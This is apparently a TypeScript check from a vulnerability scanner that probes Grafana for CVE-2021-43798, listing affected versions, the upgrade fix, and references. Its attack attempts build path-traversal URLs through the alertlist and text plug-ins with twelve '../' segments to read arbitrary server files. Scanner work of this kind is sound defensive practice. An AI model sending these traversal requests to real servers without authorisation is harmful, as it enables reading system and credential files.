import { fileByPath, type KnownExploited, proveKnownExploited } from '../../attacks/known-exploited.js';
import type { ActiveCheck } from '../../check.js';

export const check: ActiveCheck = {
  id: 'grafana-plugin-traversal',
  mode: 'active',
  scope: 'host',
  places: [],
  writes: false,
  technologies: [],
  title: 'Grafana reads any file by the address of a plug-in',
  severity: 'high',
  aliases: ['CVE-2021-43798', 'CWE-22'],
  cwe: 22,
  fix: 'Update Grafana to 8.0.7, 8.1.8, 8.2.7, 8.3.1 or later.',
  references: [
    'https://grafana.com/blog/2021/12/07/grafana-8.3.1-8.2.7-8.1.8-and-8.0.7-released-with-high-severity-security-fix/',
    'https://www.cisa.gov/known-exploited-vulnerabilities-catalog',
  ],
  cost: { low: 2, medium: 2, high: 2, insane: 2 },
  attack: (target, prober) => proveKnownExploited(target, prober, known),
};

/** Plug-ins that every installation has. */
const known: KnownExploited = {
  affected: {
    purl: /\/grafana$/,
    ranges: [
      ['8.0.0', '8.0.7'],
      ['8.1.0', '8.1.8'],
      ['8.2.0', '8.2.7'],
      ['8.3.0', '8.3.1'],
    ],
  },
  attempts: ['alertlist', 'text'].map((plugin) =>
    fileByPath((file) => `/public/plugins/${plugin}/${'../'.repeat(12)}${file}`),
  ),
};
